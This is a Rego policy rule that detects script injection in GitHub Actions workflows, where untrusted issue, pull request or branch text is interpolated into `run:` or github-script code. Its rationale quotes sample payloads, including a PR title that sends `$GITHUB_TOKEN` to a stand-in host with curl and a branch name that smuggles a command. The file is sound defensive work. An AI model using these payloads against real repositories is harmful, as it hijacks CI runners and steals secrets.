# METADATA
# title: Workflow script interpolates attacker-controlled text
# description: >-
#   A `run:` script, or the `script:` of `actions/github-script`, holds a `${{ }}` expression
#   over text an outsider writes: an issue's, pull request's, discussion's or review's title or
#   body, a comment, a branch name (`github.head_ref`, `pull_request.head.ref`), a commit
#   message or author, a label or wiki page name; also through `toJSON`, `format`, `join` or
#   `||`, and through an `env.X` the workflow set from such text. Steps of workflows and of
#   composite actions (`runs.steps`). `inputs.*`, `secrets.*`, `matrix.*`, `github.sha`,
#   numbers and booleans (`contains(...)`, comparisons) are not text an outsider controls.
# custom:
#   id: workflow-script-injection
#   severity: error
#   rationale: >-
#     GitHub evaluates `${{ }}` before the script runs and pastes the result into its text, so
#     the value becomes code: a pull request titled `a"; curl -d "$GITHUB_TOKEN" evil.example #`
#     or a branch named `zzz";echo${IFS}"hello";#` ends the quoted string and runs its own
#     commands on the runner, with the job's token and secrets (quoting does not help, the
#     attacker chooses the quotes). Anyone who can open an issue, comment or fork can write
#     these fields. See GitHub's "Script injections" (docs.github.com/en/actions/concepts/security/script-injections,
#     "Security hardening for GitHub Actions") and the Security Lab's "Keeping your GitHub
#     Actions and workflows secure Part 2: Untrusted input"
#     (securitylab.github.com/resources/github-actions-untrusted-input/); zizmor's
#     `template-injection` audit is the peer.
#   fix: >-
#     Pass the value through the step's `env:` (`env: TITLE: ${{ github.event.pull_request.title }}`)
#     and use the variable, quoted, in the script (`"$TITLE"`; `process.env.TITLE` in
#     github-script): the shell then treats it as data, never as code.
package paved.rules.workflow_script_injection

import rego.v1

_where := {"run": "`run:` script", "script": "`actions/github-script` script"}

# Expressions of scripts as the input builder placed them (workflows and composite actions).
_expressions contains e if {
	some e in input.script_expressions
}

findings contains f if {
	some e in _expressions
	refs := data.paved.lib.gha.untrusted_of(data.paved.lib.gha.expression_refs(e))
	count(refs) > 0
	f := {"line": e.line, "col": e.col, "msg": sprintf(
		"%s interpolates `%s`: `%s` is text an outsider writes, pasted into the script as code",
		[_where[e.context], e.text, concat("`, `", sort(refs))],
	)}
}

# `${{ env.X }}` where X is set (step over job over workflow) from untrusted text.
findings contains f if {
	some e in _expressions
	some ref in data.paved.lib.gha.expression_refs(e)
	startswith(ref, "env.")
	value := _env_value(e, trim_prefix(ref, "env."))
	some r in data.paved.lib.gha.untrusted_in_value(value)
	f := {"line": e.line, "col": e.col, "msg": sprintf(
		"%s interpolates `%s`, set in `env:` from `%s`: text an outsider writes, pasted into the script as code",
		[_where[e.context], e.text, r],
	)}
}

# The env maps in effect for an expression's step, innermost first.
_envs(e) := [_step_env(input.workflow.jobs[e.job].steps[e.step]), _env(input.workflow.jobs[e.job]), _env(input.workflow)] if {
	is_string(e.job)
}

_envs(e) := [_step_env(input.action.runs.steps[e.step])] if not is_string(e.job)

_step_env(step) := _env(step)

_env(x) := x.env if is_object(x.env)

_env(x) := {} if not is_object(x.env)

_env_value(e, name) := v if {
	maps := [m | some m in _envs(e); is_object(m); _has(m, name)]
	some k, v in maps[0]
	lower(k) == name
}

_has(m, name) if {
	some k, _ in m
	lower(k) == name
}
